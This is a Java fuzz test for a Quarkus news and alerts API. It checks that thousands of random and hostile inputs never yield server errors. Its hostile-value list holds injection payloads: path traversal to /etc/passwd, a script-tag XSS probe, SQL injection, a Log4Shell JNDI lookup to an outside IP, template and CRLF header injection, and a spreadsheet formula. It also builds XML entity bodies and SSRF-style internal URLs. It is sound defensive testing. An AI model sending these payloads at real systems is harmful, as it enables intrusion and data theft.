package org.countersight.api;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import org.countersight.events.Json;
import org.countersight.testsupport.KafkaBrokerResource;
import org.junit.jupiter.api.Test;

import java.io.InputStream;
import java.net.URI;
import java.net.URL;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Thousands of random and hostile values over every endpoint's query parameters, path parameters,
 * headers and bodies. Every answer is a success or a 4xx problem+json; not a single 5xx.
 */
@QuarkusTest
@QuarkusTestResource(KafkaBrokerResource.class)
class FuzzTest {

    static final int REQUESTS = 4000;
    static final String KEY = "Bearer test-key-1";

    @TestHTTPResource("/")
    URL root;

    static final List<String> HOSTILE = List.of("", " ", "'", "\"", "*", "~", "-", "|", "\\", "()", "((((", "a~99999", "*:*",
            "a AND", "\u0000", "\uD83D\uDE00", "%00", "%", "%%", "../../etc/passwd", "<script>alert(1)</script>",
            "9999999999999999999", "-1", "0", "1e10", "1e-400", "NaN", "Infinity", "-0.0", "0x10", "+1000000000-01-01",
            "2026-02-30", "2026-01-01T25:00:00Z", "-999999999-01-01", "2026-01-01T00:00:00+25:00", "KH,,,VN", ",", "null",
            "true", "TRUE", "relevance", "published", "csv", "jsonl", "day", "week", "month", "start", "0:1,1:2",
            "0:-5", "99999:1", "a:b", "0:9223372036854775807", "cDF8OTIyMzM3MjAzNjg1NDc3NTgwN3x4", "cjF8MTIzfDQ1Nnx6",
            "a".repeat(300), "a".repeat(5000), "\"".repeat(50), "KH,".repeat(60), "{\"$ne\":1}", "' OR 1=1 --",
            "${jndi:ldap://198.51.100.1/a}", "#{7*7}", "\r\nX-Injected: 1", "\u202Egnp.exe", "\uFEFF", "ſ", "İ",
            // query-parser operators at and past their limits
            "a*", "ab*", "abc*", "*abc", "?abc", "abc~", "abc~1", "abc~2", "\"a b\"~10", "\"a b\"~11", "a* b* c*", "101",
            "\u0001\uD800", "=HYPERLINK(\"x\")");

    static final Map<String, List<String>> QUERY_ENDPOINTS = new LinkedHashMap<>();

    static {
        List<String> search = List.of("q", "country", "category", "entity", "vendor", "source", "lang", "from", "to",
                "surveillance", "sort", "limit", "cursor", "facets");
        QUERY_ENDPOINTS.put("/api/v1/articles", search);
        List<String> export = new ArrayList<>(search);
        export.add("format");
        QUERY_ENDPOINTS.put("/api/v1/articles/export", export);
        List<String> timeline = new ArrayList<>(search);
        timeline.add("interval");
        QUERY_ENDPOINTS.put("/api/v1/timeline", timeline);
        QUERY_ENDPOINTS.put("/api/v1/alerts", List.of("country", "category", "minConfidence", "limit"));
        QUERY_ENDPOINTS.put("/api/v1/alerts/stream", List.of("country", "category", "minConfidence", "lastEventId"));
        QUERY_ENDPOINTS.put("/feeds/alerts.atom", List.of("country", "category", "minConfidence", "limit"));
        QUERY_ENDPOINTS.put("/api/v1/sources", List.of("x"));
        QUERY_ENDPOINTS.put("/api/v1/sources.opml", List.of("x"));
        QUERY_ENDPOINTS.put("/api/v1/subscriptions", List.of("x"));
        QUERY_ENDPOINTS.put("/api/v1/coverage", List.of("sort"));
    }

    static final List<String> PATH_ENDPOINTS = List.of("/api/v1/articles/", "/api/v1/sources/", "/api/v1/subscriptions/",
            "/demo/articles/", "/api/v1/coverage/");

    final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();
    final Map<String, Integer> statuses = new TreeMap<>();
    final List<String> createdSubscriptions = new ArrayList<>();

    @Test
    void thousandsOfRandomAndHostileValuesNeverYieldA5xx() throws Exception {
        Fixtures.awaitReady();
        Random random = new Random(20261126);
        List<String> failures = new ArrayList<>();
        int requests = requests();
        for (int i = 0; i < requests; i++) {
            HttpRequest request = switch (i % 10) {
                case 0, 1, 2, 3 -> queryRequest(random);
                case 4 -> pathRequest(random);
                case 5 -> sourceBody(random);
                case 6 -> subscriptionBody(random);
                case 7 -> opmlBody(random);
                case 8 -> deleteRequest(random);
                default -> streamRequest(random);
            };
            HttpResponse<InputStream> r = http.send(request, HttpResponse.BodyHandlers.ofInputStream());
            int status = r.statusCode();
            String type = r.headers().firstValue("Content-Type").orElse("");
            byte[] body;
            if (type.startsWith("text/event-stream")) {
                body = new byte[0];
                r.body().close(); // an open stream: its status is what counts
            } else {
                body = r.body().readAllBytes();
            }
            statuses.merge(request.method() + " " + request.uri().getPath().replaceAll("/api/v1/(\\w+)/.+", "/api/v1/$1/{x}")
                    + " " + status, 1, Integer::sum);
            // 414 above 64 KB of request line and 431 above 8 KB of headers: the HTTP server's own limits answer
            // before any application code runs; below them every error is the application's problem+json
            boolean transportLimit = (status == 414 && request.uri().toString().length() > 64 * 1024) || status == 431;
            boolean retryAfterMissing = status == 429 && r.headers().firstValue("Retry-After").isEmpty();
            if (status >= 500 || retryAfterMissing
                    || (status >= 400 && !transportLimit && !type.startsWith("application/problem+json"))) {
                failures.add(request.method() + " " + request.uri() + " -> " + status + " " + type + ": "
                        + new String(body, StandardCharsets.UTF_8));
            }
            if (status == 201 && request.uri().getPath().equals("/api/v1/subscriptions")) {
                createdSubscriptions.add(Json.MAPPER.readTree(body).get("id").asText());
            }
        }
        for (String id : createdSubscriptions) { // no background deliveries to test addresses afterwards
            http.send(HttpRequest.newBuilder(uri("/api/v1/subscriptions/" + id)).header("Authorization", KEY).DELETE().build(),
                    HttpResponse.BodyHandlers.discarding());
        }
        System.out.println(getClass().getSimpleName() + ": " + requests + " requests; method path status -> count: " + statuses);
        assertEquals(List.of(), failures.stream().limit(20).toList(), failures.size() + " requests failed");
        assertTrue(statuses.keySet().stream().anyMatch(k -> k.endsWith(" 200")), "some requests were valid");
        assertTrue(statuses.keySet().stream().anyMatch(k -> k.endsWith(" 400")), "many were not");
        checkStatuses(statuses);
    }

    int requests() {
        return REQUESTS;
    }

    /** Further expectations of a subclass about the mix of answers. */
    void checkStatuses(Map<String, Integer> statuses) {
    }

    private URI uri(String pathAndQuery) {
        String base = root.toString().replaceAll("/$", "");
        return URI.create(base + pathAndQuery);
    }

    private String value(Random random) {
        return random.nextBoolean() ? HOSTILE.get(random.nextInt(HOSTILE.size())) : randomString(random);
    }

    private static String enc(String v) {
        return URLEncoder.encode(v, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private HttpRequest queryRequest(Random random) {
        List<String> endpoints = new ArrayList<>(QUERY_ENDPOINTS.keySet());
        endpoints.remove("/api/v1/alerts/stream");
        String path = endpoints.get(random.nextInt(endpoints.size()));
        List<String> params = QUERY_ENDPOINTS.get(path);
        StringBuilder q = new StringBuilder();
        int n = 1 + random.nextInt(4);
        for (int j = 0; j < n; j++) {
            q.append(j == 0 ? "?" : "&").append(enc(params.get(random.nextInt(params.size())))).append('=').append(enc(value(random)));
        }
        if (path.endsWith("/export") && random.nextInt(3) > 0) {
            q.append("&q=").append(enc(Fixtures.uniqueWord())); // keep most exports small
        }
        HttpRequest.Builder b = HttpRequest.newBuilder(uri(path + q)).timeout(Duration.ofSeconds(60)).GET();
        if (random.nextInt(3) == 0) {
            b.header("Authorization", random.nextBoolean() ? KEY : "Bearer test-key-2"); // own buckets, own subscriptions
        }
        return b.build();
    }

    private HttpRequest streamRequest(Random random) {
        List<String> params = QUERY_ENDPOINTS.get("/api/v1/alerts/stream");
        String q = "?" + enc(params.get(random.nextInt(params.size()))) + "=" + enc(value(random));
        HttpRequest.Builder b = HttpRequest.newBuilder(uri("/api/v1/alerts/stream" + q)).timeout(Duration.ofSeconds(30)).GET();
        if (random.nextBoolean()) {
            String header = value(random).replaceAll("[^\\x21-\\x7e]", "");
            if (!header.isEmpty()) {
                b.header("Last-Event-ID", header);
            }
        }
        return b.build();
    }

    private HttpRequest pathRequest(Random random) {
        String base = PATH_ENDPOINTS.get(random.nextInt(PATH_ENDPOINTS.size()));
        String v = value(random);
        return HttpRequest.newBuilder(uri(base + (v.isEmpty() ? "x" : enc(v)))).timeout(Duration.ofSeconds(30)).GET().build();
    }

    private HttpRequest deleteRequest(Random random) {
        String base = random.nextBoolean() ? "/api/v1/sources/" : "/api/v1/subscriptions/";
        String v = random.nextBoolean() ? value(random) : Long.toHexString(random.nextLong());
        HttpRequest.Builder b = HttpRequest.newBuilder(uri(base + (v.isEmpty() ? "x" : enc(v)))).timeout(Duration.ofSeconds(30)).DELETE();
        if (random.nextInt(4) > 0) {
            b.header("Authorization", KEY);
        }
        return b.build();
    }

    /** URLs that never need DNS: IP literals, private addresses, wrong schemes, garbage. */
    private String url(Random random) {
        return switch (random.nextInt(6)) {
            case 0 -> "http://198.51.100." + random.nextInt(256) + "/" + enc(randomString(random));
            case 1 -> "http://10.0.0." + random.nextInt(256) + "/feed";
            case 2 -> "ftp://198.51.100.7/" + randomString(random);
            case 3 -> "http://[::ffff:127.0.0.1]:" + random.nextInt(70000) + "/";
            case 4 -> "https://user:pw@198.51.100.8/";
            default -> value(random);
        };
    }

    private Object jsonValue(Random random) {
        return switch (random.nextInt(7)) {
            case 0 -> random.nextInt();
            case 1 -> random.nextDouble() * 4 - 2;
            case 2 -> List.of(value(random), value(random));
            case 3 -> Map.of("k", value(random));
            case 4 -> random.nextBoolean();
            default -> value(random);
        };
    }

    private HttpRequest post(String path, String contentType, byte[] body, Random random) {
        HttpRequest.Builder b = HttpRequest.newBuilder(uri(path)).timeout(Duration.ofSeconds(60))
                .header("Content-Type", contentType).POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (random.nextInt(5) > 0) {
            b.header("Authorization", random.nextInt(10) > 0 ? KEY : "Bearer " + value(random).replaceAll("[^\\x21-\\x7e]", ""));
        }
        return b.build();
    }

    private byte[] jsonBody(Random random, Map<String, Object> fields) {
        if (random.nextInt(6) == 0) {
            return value(random).getBytes(StandardCharsets.UTF_8); // not JSON at all
        }
        Map<String, Object> m = new LinkedHashMap<>();
        fields.forEach((k, v) -> {
            if (random.nextInt(4) > 0) {
                m.put(k, random.nextInt(3) == 0 ? jsonValue(random) : v);
            }
        });
        return Json.write(m);
    }

    private HttpRequest sourceBody(Random random) {
        Map<String, Object> fields = new LinkedHashMap<>();
        fields.put("url", url(random));
        fields.put("name", value(random));
        fields.put("country", random.nextBoolean() ? "KH" : value(random));
        fields.put("language", random.nextBoolean() ? "en" : value(random));
        fields.put("pollIntervalMinutes", random.nextInt(3000) - 100);
        return post("/api/v1/sources", "application/json", jsonBody(random, fields), random);
    }

    private HttpRequest subscriptionBody(Random random) {
        Map<String, Object> fields = new LinkedHashMap<>();
        fields.put("url", url(random));
        fields.put("countries", random.nextBoolean() ? List.of("KH") : List.of(value(random)));
        fields.put("categories", random.nextBoolean() ? List.of("drones") : value(random));
        fields.put("minConfidence", random.nextDouble() * 3 - 1);
        fields.put("secret", random.nextBoolean() ? "a-secret-long-enough-" + random.nextInt() : value(random));
        return post("/api/v1/subscriptions", "application/json", jsonBody(random, fields), random);
    }

    private HttpRequest opmlBody(Random random) {
        String outline = "<outline type=\"rss\" text=\"" + value(random).replace("\"", "&quot;").replace("<", "&lt;").replace("&", "&amp;")
                + "\" xmlUrl=\"" + url(random).replace("&", "&amp;").replace("\"", "&quot;").replace("<", "&lt;") + "\"/>";
        String doc = switch (random.nextInt(5)) {
            case 0 -> "<opml version=\"2.0\"><body>" + outline + "<outline text=\"f\">" + outline + "</outline></body></opml>";
            case 1 -> "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e \"" + value(random).replace("\"", "") + "\">]><opml>&e;</opml>";
            case 2 -> "<opml><body>" + value(random) + "</body></opml>";
            case 3 -> value(random);
            default -> "<opml version=\"2.0\"><body>" + outline.repeat(1 + random.nextInt(5)) + "</body>";
        };
        // a List, not a Set: Set.of's iteration order changes between JVM runs, so the seed would not reproduce a run
        String type = OPML_CONTENT_TYPES.get(random.nextInt(OPML_CONTENT_TYPES.size()));
        return post("/api/v1/sources/opml", type, doc.getBytes(StandardCharsets.UTF_8), random);
    }

    private static final List<String> OPML_CONTENT_TYPES = List.of("text/x-opml", "application/xml", "text/plain", "application/json");

    private static final String PUNCTUATION = " -+*|\"()~:,.%&=?/\\[]{}<>'#;";

    static String randomString(Random r) {
        int len = r.nextInt(40);
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < len; i++) {
            int kind = r.nextInt(4);
            sb.append((char) switch (kind) {
                case 0 -> 'a' + r.nextInt(26);
                case 1 -> '0' + r.nextInt(10);
                case 2 -> PUNCTUATION.charAt(r.nextInt(PUNCTUATION.length()));
                default -> 0x20 + r.nextInt(0x2000);
            });
        }
        return sb.toString();
    }
}
